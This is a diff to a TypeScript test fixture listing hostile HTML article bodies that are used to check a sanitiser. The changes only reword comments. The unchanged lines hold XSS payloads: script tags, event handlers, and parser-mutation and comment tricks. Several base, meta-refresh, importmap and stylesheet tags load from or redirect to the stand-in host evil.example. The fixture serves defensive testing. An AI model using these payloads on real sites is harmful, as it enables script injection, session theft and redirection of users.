@@ -1,9 +1,9 @@
 /**
- * Article bodies by somebody who means harm: what reached pages through sanitisers before (mutation, foreign content, entities,
- * broken markup). Every one that does something in a browser would do `alert(1)` or ask evil.example.
+ * Article bodies from an attacker: techniques that got past sanitisers before (mutation, foreign content, entities,
+ * broken markup). If one of them works in a browser, it calls `alert(1)` or requests evil.example.
  */
 export const hostileBodies: readonly string[] = [
-  // Scripts, plainly and in disguise
+  // Scripts, plain and disguised
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></ScRiPt>',
   '<script/x>alert(1)</script/x>',
@@ -13,7 +13,7 @@ export const hostileBodies: readonly string[] = [
   '<script type="application/json" id="ringside-page">{"roots":[]}</script>',
   '<script type="importmap">{"imports":{"x":"//evil.example"}}</script>',
   '<script type="speculationrules">{"prefetch":[{"urls":["//evil.example"]}]}</script>',
-  // Handlers
+  // Event handlers
   '<p onclick=alert(1)>x',
   '<p OnMouseOver="alert(1)">x</p>',
   '<p/onclick=alert(1)>x</p>',
@@ -81,7 +81,7 @@ export const hostileBodies: readonly string[] = [
   '<style><img src="</style><img src=x onerror=alert(1)>">',
   '<link rel=stylesheet href="//evil.example/x.css">',
   '<p class="fixed inset-0 z-50">x</p>',
-  // Things that change the page around them
+  // Elements that affect the whole page
   '<base href="//evil.example/">',
   '<meta http-equiv=refresh content="0;url=//evil.example">',
   '<meta http-equiv="Content-Security-Policy" content="default-src *">',
@@ -129,7 +129,7 @@ export const hostileBodies: readonly string[] = [
   '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
   '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
   '<table><tr><td><p>x</td></tr><img src=x onerror=alert(1)></table>',
-  // Comments, sections and markup that does not end
+  // Comments, sections and unclosed markup
   '<!--><img src=x onerror=alert(1)>-->',
   '<!--!><img src=x onerror=alert(1)>-->',
   '<!-- --!><img src=x onerror=alert(1)>-->',
